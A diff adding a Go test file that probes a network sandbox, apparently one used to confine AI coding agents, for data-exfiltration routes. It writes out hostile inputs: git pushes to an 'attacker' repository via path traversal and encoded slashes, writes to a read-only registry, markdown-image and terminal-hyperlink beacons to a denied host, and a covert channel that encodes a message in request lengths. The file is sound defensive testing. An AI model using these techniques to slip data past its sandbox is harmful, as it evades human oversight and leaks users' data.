@@ -1,0 +1,73 @@
+//go:build linux
+
+package probe
+
+import (
+	"fmt"
+	"strings"
+)
+
+const classChannels = "net.permitted-channels"
+
+func channelsRows() []Row { return public(classChannels, channels()...) }
+
+// A forge of which one repository may be pushed to, and a registry that may be
+// read.
+var (
+	forge = []Reach{
+		{Host: "allowed.test", Ports: []int{80}, Kind: "http", Methods: []string{"GET", "POST"}, Paths: []string{"/own/x.git/**"}},
+		{Host: "allowed.test", Ports: []int{443}, Kind: "tls", Methods: []string{"GET", "POST"}, Paths: []string{"/own/x.git/**"}},
+	}
+	registry = []Reach{{Host: "allowed.test", Ports: []int{80}, Kind: "http", Methods: []string{"GET", "HEAD"}, Paths: []string{"/pkg/**"}}}
+)
+
+func channels() []Row {
+	ask := func(line, rest string) string { return line + " HTTP/1.1\r\nHost: allowed.test\r\n" + rest + "\r\n" }
+	push := func(repo string) []string {
+		return []string{
+			say("allowed.test:80", ask("GET /"+repo+"/info/refs?service=git-receive-pack", "")),
+			say("allowed.test:80", ask("POST /"+repo+"/git-receive-pack", "Content-Type: application/x-git-receive-pack-request\r\nContent-Length: 4\r\n")+"0000"),
+			say(proxyAddr, ask("POST http://allowed.test/"+repo+"/git-receive-pack", "Content-Length: 4\r\n")+"0000"),
+		}
+	}
+	var others []string
+	for _, repo := range []string{"attacker/y.git", "own/x.git/../../attacker/y.git", "own/x.git%2f..%2f..%2fattacker/y.git", "own/x", "own/x.gitt", "OWN/x.git"} {
+		others = append(others, push(repo)...)
+	}
+	return []Row{
+		{ID: "EXF-001", Core: true, Title: "another repository of an allowed forge is pushed to",
+			Refs: []string{"srt README, security limitations", "gitprotocol-http(5)"}, Options: Options{Reach: forge}, Action: "net-say",
+			Args: []string{"ok=" + rowsOf(push("own/x.git")...), "say=" + rowsOf(others...)}},
+		{ID: "EXF-001b", Core: true, Title: "another repository of an allowed forge is reached over TLS",
+			Refs: []string{"gitprotocol-http(5)"}, Options: Options{Reach: forge}, Action: "net-tls",
+			Args: []string{"ok=" + rowsOf("direct allowed.test:443 path=/own/x.git/info/refs", "connect allowed.test:443 alpn=h2 path=/own/x.git/info/refs"),
+				"try=" + rowsOf("direct allowed.test:443 path=/attacker/y.git/info/refs", "connect allowed.test:443 path=/attacker/y.git/info/refs alpn=h2", "socks allowed.test:443 path=/attacker/y.git/info/refs")}},
+		{ID: "EXF-002", Title: "a package is published to a registry that may only be read",
+			Refs: []string{"npm-publish(1)", "agentcore S3 command channel"}, Options: Options{Reach: registry}, Action: "net-say",
+			Args: []string{"ok=" + say("allowed.test:80", ask("GET /pkg/left-pad", "")), "say=" + rowsOf(
+				say("allowed.test:80", ask("PUT /pkg/left-pad", "Content-Length: 2\r\n")+"{}"), say("allowed.test:80", ask("POST /legacy/", "Content-Length: 2\r\n")+"{}"),
+				say("allowed.test:80", ask("GET /search?q=secret", "")), say("allowed.test:80", ask("POST /pkg/left-pad", "Content-Length: 2\r\n")+"{}"), say("allowed.test:80", ask("DELETE /pkg/left-pad", "")))}},
+		{ID: "EXF-004", Title: "what is printed makes somebody outside fetch a picture",
+			Refs: []string{"CVE-2025-54132"}, Action: "net-print", Bare: "nobody renders what a command prints in a terminal",
+			Args: []string{"text=![x](http://denied.test/?data)\n[x]: http://denied.test/?data\n\x1b]8;;http://denied.test/?data\x1b\\x\x1b]8;;\x1b\\"}},
+		{ID: "EXF-005", Title: "a file that was written makes somebody outside fetch a schema",
+			Refs: []string{"IDEsaster"}, Action: "create", Harmless: "a file of the workspace may be written, and nothing outside reads it during the run", Bare: "nobody opens the file in an editor",
+			Args: []string{"path=W/x.json"}},
+		{ID: "EXF-006", Title: "the length of what is asked for tells an allowed host something",
+			Refs: []string{"covert channels"}, Residual: "what an allowed host is sent is what it learns: how long, how often and when can tell it anything",
+			Action: "net-get", Oracle: lengths,
+			Args: []string{"ok=direct http://allowed.test/", "try=" + by(allDoors[:1], "http://allowed.test/"+strings.Repeat("a", 72), "http://allowed.test/"+strings.Repeat("a", 105))}},
+	}
+}
+
+// lengths reads a message from the lengths of requests.
+func lengths(w *World, _ Observation) []string {
+	text := ""
+	for _, v := range w.net.requests("/a") {
+		text += string(rune(len(v.target) - 1))
+	}
+	if text != "" {
+		return []string{fmt.Sprintf("an allowed host was told %q", text)}
+	}
+	return nil
+}
